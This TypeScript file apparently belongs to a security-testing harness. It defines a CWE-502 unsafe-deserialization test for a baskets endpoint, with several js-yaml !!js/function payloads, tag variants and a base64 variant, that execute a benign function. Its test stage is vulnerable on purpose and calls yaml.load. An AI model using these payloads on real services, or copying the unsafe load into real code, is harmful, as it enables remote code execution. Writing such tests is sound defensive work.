import { json } from '../http/answer.ts';
import { invalid, textIn } from './asked.ts';
import { asking, defineAttack, exploit, type Stage } from './attack.ts';

const path = '/v1/tools/baskets';
/** What a note says only if a function in it ran. */
const ran = `ran in ${process.version}: 11111`;
const run = "function () { return 'ran in ' + process.version + ': ' + 41 * 271 }";

/** A basket that was kept as a text. */
export const unsafeDeserialization = defineAttack({
  id: 'unsafe-deserialization',
  title: 'A kept object comes back with functions in it',
  cwe: 'CWE-502',
  finding: 'attack.unsafe-deserialization',
  interpreter: 'js-yaml',
  operations: ['GET /v1/tools/baskets'],
  open: openBaskets,
  exploits: [
    kept('a function for a text', `note: { toString: !!js/function "${run}" }`),
    kept('a tag in full', `note: {toString: !<tag:yaml.org,2002:js/function> "${run}"}`),
    kept('lines of a block', `note:\n  toString: !!js/function |\n    ${run}\n`),
    kept('a tag by a handle', `%TAG !f! tag:yaml.org,2002:js/\n---\nnote: { toString: !f!function "${run}" }`),
    exploit('in base64', asking(path, { basket: base64(`note: { toString: !!js/function "${run}" }`) }), ran),
  ],
  ordinary: [
    'note: two boxes\nitems: [zinc, aspirin]',
    'note: "O\'Brien & Sons"',
    'note: a function () { } in a text',
    'note: "!important: js/css"',
    '- just\n- a list',
    '{"note": "as JSON", "items": []}',
  ]
    .map((basket) => asking(path, { basket }))
    .concat(asking(path, { basket: base64('note: kept as base64') })),
});

function kept(name: string, basket: string) {
  return exploit(name, asking(path, { basket }), ran);
}

function base64(text: string): string {
  return Buffer.from(text).toString('base64');
}

async function openBaskets(): Promise<Stage> {
  const { default: yaml } = await import('js-yaml');
  return {
    answer({ query }, isFlawed) {
      const text = textIn(query.get('basket'), 1000);
      if (text === undefined) return invalid;
      const source = /^[\w+/]{8,}=*$/.test(text) ? Buffer.from(text, 'base64').toString() : text;
      try {
        const basket = isFlawed ? yaml.load(source) : yaml.safeLoad(source);
        const note = typeof basket === 'object' && basket !== null && 'note' in basket ? basket.note : '';
        return json(200, { note: String(note) });
      } catch {
        return invalid;
      }
    },
  };
}
